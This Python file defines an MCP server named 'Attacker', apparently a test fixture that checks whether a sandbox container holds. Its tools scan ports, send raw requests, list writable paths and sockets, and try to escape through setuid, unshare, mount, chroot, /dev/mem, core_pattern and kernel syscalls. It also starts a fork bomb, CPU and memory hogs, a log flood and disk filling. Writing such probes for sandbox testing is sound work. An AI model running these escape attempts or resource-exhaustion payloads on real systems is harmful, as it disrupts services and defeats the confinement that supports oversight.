"""A server that attacks everything it can see. Every tool tells what came of it, as JSON."""

import ctypes
import errno
import json
import os
import platform
import socket
import subprocess
import sys
import threading
from pathlib import Path

from mcp.server.fastmcp import FastMCP

mcp = FastMCP("Attacker")

TIMEOUT_SECS = 3
libc = ctypes.CDLL("libc.so.6", use_errno=True)
# Of the system calls that have no function in libc, by machine.
NUMBERS = {
    "x86_64": {"keyctl": 250, "bpf": 321, "perf_event_open": 298, "init_module": 175, "open_by_handle_at": 304},
    "aarch64": {"keyctl": 219, "bpf": 280, "perf_event_open": 241, "init_module": 105, "open_by_handle_at": 265},
}[platform.machine()]


def name_of(error: OSError) -> str:
    return errno.errorcode.get(error.errno or 0, type(error).__name__)


@mcp.tool()
def connect(targets: list[str]) -> str:
    """Connect to each HOST:PORT: "connected", or how it failed."""
    results: dict[str, str] = {}

    def attempt(target: str) -> None:
        host, _, port = target.rpartition(":")
        try:
            socket.create_connection((host, int(port)), timeout=TIMEOUT_SECS).close()
            results[target] = "connected"
        except TimeoutError:
            results[target] = "timeout"
        except OSError as error:
            results[target] = name_of(error)

    threads = [threading.Thread(target=attempt, args=(target,)) for target in targets]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return json.dumps(results)


@mcp.tool()
def send(host: str, port: int, request: str) -> str:
    """Send bytes as they are and tell the first line that comes back."""
    try:
        with socket.create_connection((host, port), timeout=TIMEOUT_SECS) as connection:
            connection.sendall(request.encode("latin-1"))
            return json.dumps(connection.recv(4096).split(b"\r\n")[0].decode("latin-1"))
    except OSError as error:
        return json.dumps(name_of(error))


@mcp.tool()
def look_around() -> str:
    """The way out and the addresses of this container, and whether it speaks IPv6."""
    routes = [line.split() for line in Path("/proc/net/route").read_text().splitlines()[1:]]
    gateways = [socket.inet_ntoa(int(route[2], 16).to_bytes(4, "little")) for route in routes if int(route[2], 16)]
    try:
        has_ipv6 = "fe80" in Path("/proc/net/if_inet6").read_text()
    except OSError:
        has_ipv6 = False
    return json.dumps({"gateways": gateways, "has_ipv6": has_ipv6})


@mcp.tool()
def resolve(name: str) -> str:
    """Ask for a name of the outside."""
    try:
        return json.dumps(socket.gethostbyname(name))
    except OSError:
        return json.dumps(None)


def find(*conditions: str) -> list[Path]:
    """Everything in the file system that fits, but for /proc; find is faster than Python by far."""
    command = ["find", "/", "-path", "/proc", "-prune", "-o", *conditions, "-print"]
    done = subprocess.run(command, capture_output=True, text=True, timeout=TIMEOUT_SECS * 8)
    return [Path(line) for line in done.stdout.splitlines()]


@mcp.tool()
def sockets() -> str:
    """All sockets in the file system."""
    return json.dumps([str(path) for path in find("-type", "s")])


@mcp.tool()
def writable() -> str:
    """What the kernel calls writable: the directories in which a file can be made, the files that can be written."""
    found = []
    for path in find("-writable", "(", "-type", "d", "-o", "-type", "f", ")"):
        try:
            if path.is_dir():
                probe = path / ".attack"
                probe.touch()
                probe.unlink()
            else:
                os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
        except OSError:
            continue
        found.append(str(path))
    for path in Path("/proc/sys").rglob("*"):
        try:
            if path.is_file():
                os.close(os.open(path, os.O_WRONLY))
                found.append(str(path))
        except OSError:
            continue
    return json.dumps(found)


@mcp.tool()
def status() -> str:
    """What the kernel says of this process."""
    lines = Path("/proc/self/status").read_text().splitlines()
    return json.dumps({name: value.strip() for name, _, value in (line.partition(":") for line in lines)})


def call(function: str, *arguments: object) -> str:
    ctypes.set_errno(0)
    result = getattr(libc, function)(*arguments)
    return "succeeded" if result != -1 else errno.errorcode.get(ctypes.get_errno(), "?")


def attempt(action) -> str:
    try:
        action()
    except OSError as error:
        return name_of(error)
    return "succeeded"


@mcp.tool()
def gain_privileges() -> str:
    """Everything that would lead out of here, and how it failed."""
    new_user, new_mounts, new_net = 0x10000000, 0x00020000, 0x40000000
    results = {
        "setuid": call("setuid", 0),
        "setgid": call("setgid", 0),
        "unshare user": call("unshare", new_user),
        "unshare mounts": call("unshare", new_mounts),
        "unshare net": call("unshare", new_net),
        "mount": call("mount", b"none", b"/tmp", b"tmpfs", 0, None),
        "umount": call("umount", b"/app/user_code"),
        "chroot": call("chroot", b"/tmp"),
        "pivot_root": call("syscall", {"x86_64": 155, "aarch64": 41}[platform.machine()], b"/tmp", b"/tmp"),
        "mknod": call("mknod", b"/tmp/vda", 0o60000 | 0o666, os.makedev(254, 0)),
        "sethostname": call("sethostname", b"x", 1),
        "reboot": call("reboot", 0),
        "swapoff": call("swapoff", b"/swap"),
        "settimeofday": call("settimeofday", ctypes.create_string_buffer(16), None),
        "mq_open": call("mq_open", b"/attack", os.O_CREAT | os.O_RDWR, 0o600, None),
        "raw socket": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close()),
        "packet socket": attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()),
        # The first process is the container's own and may be looked into; it must not lead to the host's root.
        "root of init": "EXDEV" if os.path.samefile("/proc/1/root", "/") else "succeeded",
        "kernel memory": attempt(lambda: open("/dev/mem", "rb").close()),
        "sysrq": attempt(lambda: open("/proc/sysrq-trigger", "w").close()),
        "core pattern": attempt(lambda: open("/proc/sys/kernel/core_pattern", "w").close()),
        "cgroup": attempt(lambda: os.mkdir("/sys/fs/cgroup/memory/attack")),
        "execute in tmp": attempt(execute_in_tmp),
    }
    zeros = ctypes.create_string_buffer(256)
    for name, arguments in {
        "keyctl": (0, -3, 0),
        "bpf": (0, zeros, 120),
        "perf_event_open": (zeros, 0, -1, -1, 0),
        "init_module": (zeros, 0, zeros),
        "open_by_handle_at": (-100, zeros, 0),
    }.items():
        results[name] = call("syscall", NUMBERS[name], *arguments)
    return json.dumps(results)


def execute_in_tmp() -> None:
    program = Path("/tmp/attack.sh")
    program.write_text("#!/bin/sh\nexit 0\n")
    program.chmod(0o755)
    subprocess.run([str(program)], check=True)


@mcp.tool()
def use_setuid_programs() -> str:
    """The user ids that programs with the setuid bit come to run as."""
    found = find("-type", "f", "-perm", "-4000")
    users = {}
    for path in found:
        # They block on input that never comes, so that their ids can be read.
        process = subprocess.Popen(
            [str(path)], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
        try:
            lines = Path(f"/proc/{process.pid}/status").read_text().splitlines()
            users[str(path)] = next(line.split()[2] for line in lines if line.startswith("Uid:"))
        except OSError:
            users[str(path)] = "ended"
        finally:
            process.kill()
            process.wait()
    return json.dumps(users)


@mcp.tool()
def multiprocessing_works() -> str:
    """Locks and pools, which need shared memory: an honest server's tool."""
    program = "import multiprocessing as m; m.Lock(); p = m.Pool(2); print(sum(p.map(abs, [-1, -2]))); p.terminate()"
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=30)
    return json.dumps(done.stdout.strip() or done.stderr)


@mcp.tool()
def fill(directory: str) -> str:
    """Write until there is no more room; how many bytes went in, and the error that ended it."""
    written, block = 0, b"x" * (1 << 20)
    path = Path(directory, "fill")
    try:
        with path.open("wb", buffering=0) as file:
            while written < 1 << 30:
                written += file.write(block)
    except OSError as error:
        return json.dumps([written, name_of(error)])
    finally:
        path.unlink(missing_ok=True)
    return json.dumps([written, "no end"])


FORK_BOMB = """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
"""
CPU_HOG = "while True: pass"
LOG_FLOOD = "import os\nline = b'flood ' * 20 + b'\\n'\nwhile True: os.write(1, line * 50)"


@mcp.tool()
def hog(kind: str) -> str:
    """Begin to use up what there is: "forks", "cpu", "logs" or "memory"."""
    if kind == "memory":
        threading.Thread(target=eat_memory).start()
    else:
        program = {"forks": FORK_BOMB, "cpu": CPU_HOG, "logs": LOG_FLOOD}[kind]
        for _ in range(4 if kind == "cpu" else 1):
            # Not this process's own standard output: the bootstrap captures that.
            subprocess.Popen([sys.executable, "-c", program], stdin=subprocess.DEVNULL)
    return json.dumps("begun")


def eat_memory() -> None:
    eaten = []
    while True:
        eaten.append(bytearray(os.urandom(1 << 10) * (1 << 13)))
